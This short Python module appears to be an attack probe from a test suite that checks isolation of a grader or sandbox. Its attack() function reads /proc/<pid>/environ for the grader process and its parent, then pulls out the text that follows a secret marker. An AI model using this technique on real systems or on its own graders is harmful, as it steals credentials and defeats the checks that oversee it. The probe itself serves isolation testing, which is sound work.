"""Read the environment of the grader and of every process on the way to it."""

import os

FAMILY = "secrets"


def attack(world):
    found = b""
    for pid in (world["grader"], os.getppid()):
        with open(f"/proc/{pid}/environ", "rb") as file:
            found += file.read()
    start = found.find("".join(world["marker"]).encode())
    return found[start : start + 100].decode(errors="replace") if start >= 0 else "no secret in it"
